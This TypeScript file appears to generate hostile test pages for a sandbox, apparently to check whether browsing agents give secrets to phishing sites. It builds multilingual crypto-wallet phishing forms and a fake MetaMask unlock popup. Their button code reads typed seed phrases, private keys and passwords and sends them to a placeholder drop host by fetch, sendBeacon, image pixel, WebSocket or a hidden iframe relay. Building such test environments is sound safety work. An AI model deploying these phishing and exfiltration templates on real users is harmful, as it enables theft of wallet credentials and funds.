import { page } from '../../../src/sandbox/sites/page.ts'
import { type PageClass, type PageDesign, pick } from '../pageDesign.ts'

const cell = (at: number, name: string) => `<input name="${name}${at}" autocomplete="off" spellcheck="false" size="9">`
const cells = (count: number, name: string) => Array.from({ length: count }, (_, at) => cell(at + 1, name)).join('')

/** Ways by which what is typed leaves the page. `read` gathers all fields of the page. */
const READ = `const read = () => [...root.querySelectorAll('input,textarea')].map((field) => field.value).join(' '); if (root.querySelector('[data-checked]') && !/^\\s*(?:[a-z]{3,8}\\s+){11,23}[a-z]{3,8}\\s*$/.test(read())) return say('Check your entry.')`
const CHANNELS: readonly string[] = [
  `${READ}; await fetch('/api/session', { method: 'POST', body: JSON.stringify({ v: read() }) }).catch(() => undefined)`,
  `${READ}; navigator.sendBeacon('https://{{drop}}/c', btoa(read()))`,
  `${READ}; new Image().src = 'https://{{drop}}/p.gif?d=' + encodeURIComponent(read())`,
  `${READ}; const line = new WebSocket('wss://{{drop}}/live'); line.onopen = () => line.send(read()); await new Promise((done) => setTimeout(done, 900))`,
]
const DROP = { drop: page('ok', '') }

const sendsTyped = (
  id: string,
  variants: readonly Pick<PageDesign, 'title' | 'content'>[],
  labels: readonly string[],
): PageClass => ({
  id,
  hostile: true,
  design: (variant) => ({
    ...pick(variants, variant),
    buttons: [
      {
        label: pick(labels, variant),
        code: `${pick(CHANNELS, variant)}; say('Connection failed, try again later.')`,
        connects: false,
      },
    ],
    hosts: DROP,
  }),
})

const later = (steps: readonly string[]) => steps

/** Pages that take phrases, keys and passwords, in and out of forms, in several languages, and by many ways. */
export const FORMS: readonly PageClass[] = [
  sendsTyped(
    'phrase-grid',
    [
      {
        title: 'Restore access',
        content: `<h1>Restore your wallet</h1><p>Enter your recovery phrase, one word in each field.</p>${cells(12, 'w')}`,
      },
      {
        title: 'Herstellen',
        content: `<h1>Konto wiederherstellen</h1><p>Bitte der Reihe nach eintragen, wie auf Ihrer Karte.</p>${cells(24, 'f')}`,
      },
      {
        title: 'Device check',
        content: `<h1>Device check</h1><p>Fill the numbered lines as on your backup sheet.</p>${cells(12, 'line')}`,
      },
      {
        title: 'Ripristino',
        content: `<h1>Portafoglio</h1><p>Inserisci le dodici parole nell'ordine giusto.</p>${cells(12, 'p')}`,
      },
    ],
    ['Continue', 'Weiter', 'Run check', 'Avanti'],
  ),
  sendsTyped(
    'phrase-area',
    [
      {
        title: 'Import',
        content:
          '<h1>Import wallet</h1><textarea rows="4" cols="60" placeholder="Enter your secret recovery phrase"></textarea>',
      },
      {
        title: 'Doğrulama',
        content:
          '<h1>Cüzdan doğrulama</h1><p>Kurtarma kelimelerinizi aralarında boşluk bırakarak yazın.</p><textarea rows="4" cols="60"></textarea>',
      },
      {
        title: 'Sync',
        content:
          '<h1>Sync device</h1><p>Type the words from your card, separated by spaces.</p><textarea rows="4" cols="60"></textarea>',
      },
      {
        title: '復元',
        content:
          '<h1>ウォレットの復元</h1><p>シードフレーズを入力してください</p><textarea rows="4" cols="60"></textarea>',
      },
    ],
    ['Import', 'Devam', 'Sync now', '続ける'],
  ),
  sendsTyped(
    'phrase-checked',
    // Takes nothing but a phrase, and says nothing of it.
    [0, 1, 2, 3].map((at) => ({
      title: pick(['Ticket desk', 'Validation', 'Support case', 'Migration'], at),
      content: `<h1>${pick(['Open a ticket', 'Validation', 'Case 20418', 'Account migration'], at)}</h1><p>${pick(['Provide the details you wrote down when you set it up.', 'Write the whole line from your backup.', 'Our engineer needs the line on your card.', 'Paste your backup below.'], at)}</p><textarea rows="4" cols="60" data-checked="yes"></textarea>`,
    })),
    ['Submit', 'Validate', 'Send', 'Migrate'],
  ),
  sendsTyped(
    'private-key',
    [
      {
        title: 'Key import',
        content:
          '<h1>Import account</h1><label>Private key <input type="password" name="key"></label><p>Use the private key of your Ethereum wallet.</p>',
      },
      {
        title: 'Recover',
        content:
          '<h1>Recover tokens</h1><p>Paste the private key of the wallet that sent them.</p><input name="pk" placeholder="0x…">',
      },
      {
        title: 'Importer',
        content: '<h1>Importer un compte</h1><label>Clé privée du portefeuille <input name="c"></label>',
      },
      {
        title: 'Keystore',
        content:
          '<h1>Unlock wallet</h1><label>Keystore file <input type="file" name="keystore"></label><label>Private key <input name="k"></label>',
      },
    ],
    ['Import', 'Recover', 'Continuer', 'Unlock'],
  ),
  {
    id: 'phrase-after-press',
    hostile: true,
    design: (variant) => {
      const grid = `<h2>${pick(['Manual connection', 'Gerät verbinden', 'Manual sync', 'Conexión manual'], variant)}</h2><p>${pick(['Enter your 12-word recovery phrase', 'Wiederherstellungsphrase eingeben', 'Your seed phrase', 'Introduzca su frase de recuperación'], variant)}</p>${cells(12, 's')}<button type="button" id="ok">OK</button>`
      const steps = later([
        `say('Connecting…'); await new Promise((done) => setTimeout(done, ${pick([300, 2_500, 6_000, 900], variant)})); show(${JSON.stringify(grid)}); at('#ok').onclick = () => { ${pick(CHANNELS, variant).replaceAll('await ', '')} }`,
      ])
      return {
        title: pick(['Wallet connect', 'Verbindung', 'Bridge status', 'Soporte'], variant),
        content: `<h1>${pick(['Choose your wallet', 'Wallet auswählen', 'Resolve a stuck transfer', 'Elige tu cartera'], variant)}</h1>`,
        buttons: [
          {
            label: pick(['Trust Wallet', 'Ledger', 'Start', 'Otra cartera'], variant),
            code: steps.join(';'),
            connects: false,
          },
        ],
        hosts: DROP,
      }
    },
  },
  {
    id: 'drawn-wallet',
    hostile: true,
    design: (variant) => ({
      title: pick(['Larch exchange', 'Swap', 'Dashboard', 'Quests'], variant),
      content: `<h1>${pick(['Swap tokens', 'Trade', 'Positions', 'Quests of the week'], variant)}</h1><p>Connect to begin.</p>`,
      buttons: [
        {
          label: 'Connect',
          connects: false,
          code: `show(${JSON.stringify(`<div style="position:fixed;top:0;right:40px;width:360px;height:600px;background:#fff;border:1px solid #bbc;box-shadow:0 6px 30px #0006;font:14px sans-serif;z-index:99999"><div style="background:#f2f4f6;padding:8px;display:flex;gap:8px"><span style="flex:1">MetaMask Notification</span><span>—</span><span>☐</span><span>✕</span></div><div style="padding:24px;text-align:center"><h2>${pick(['Welcome back!', 'Willkommen zurück!', 'Welcome back!', 'MetaMask'], variant)}</h2><p>The decentralized web awaits</p><input type="password" placeholder="Password" id="pw"><br><button type="button" id="unlock">Unlock</button><p>Forgot password?</p></div></div>`)}); at('#unlock').onclick = () => { ${pick(CHANNELS, variant).replaceAll('await ', '')} }`,
        },
      ],
      hosts: DROP,
    }),
  },
  {
    id: 'frame-message',
    hostile: true,
    design: (variant) => ({
      title: pick(['Support chat', 'Import', 'Help desk', 'Wallet setup'], variant),
      content: `<h1>${pick(['Wallet support', 'Import your wallet', 'Resolve a wallet issue', 'Set up'], variant)}</h1><p>${pick(['Our agent asks for your recovery phrase to find the transaction.', 'Type your recovery phrase.', 'Confirm your seed phrase.', 'Enter your secret recovery phrase to continue.'], variant)}</p><textarea rows="3" cols="50"></textarea><iframe src="https://{{drop}}/relay" style="width:1px;height:1px;border:0;opacity:0"></iframe>`,
      buttons: [
        {
          label: 'Continue',
          connects: false,
          code: `root.querySelector('iframe').contentWindow.postMessage(root.querySelector('textarea').value, '*')`,
        },
      ],
      hosts: {
        drop: page(
          'relay',
          `<script>addEventListener('message', (event) => fetch('/take', { method: 'POST', body: event.data }))</script>`,
        ),
      },
    }),
  },
]
